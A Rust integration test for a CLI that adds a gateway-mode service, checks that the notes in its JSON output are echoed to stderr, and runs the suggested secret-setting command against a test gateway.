fn a_note_names_a_command_for_the_same_home_and_gateway() {
    let desk = Desk::new();
    let home = desk.env.home().join("other home");
    let args = [
        "service",
        "add",
        "linear",
        "--mode",
        "gateway",
        "--upstream-base-url",
        "https://api.linear.app",
        "--namespace",
        "carol",
        "--gateway-admin-url",
        &desk.gateway.url(),
        "--openclaw-home",
        home.to_str().unwrap(),
        "--source-home",
        desk.checkout.root.to_str().unwrap(),
        "--json",
    ];
    let added = desk.env.run(args).expect(0);
    // As JSON has it too.
    let notes = json(&added)["notes"].clone();
    let told = added.stderr;
    for note in notes.as_array().unwrap() {
        let line = format!("note: {}", note.as_str().unwrap());
        assert!(told.lines().any(|told| told == line), "{line} in\n{told}");
    }
    let note = told
        .lines()
        .find(|line| line.contains("set the real one with"))
        .unwrap();
    let command = env::command_of(note);
    assert!(
        command.contains("'") && command.contains(" --namespace carol "),
        "{told}"
    );
    let set = desk.env.shell(&command.replace("<VARIABLE>", "LINEAR"));
    set.env("LINEAR", SECRET).expect(0);
    assert!(desk.gateway.secrets("linear").values().any(|secret| secret == SECRET));
}
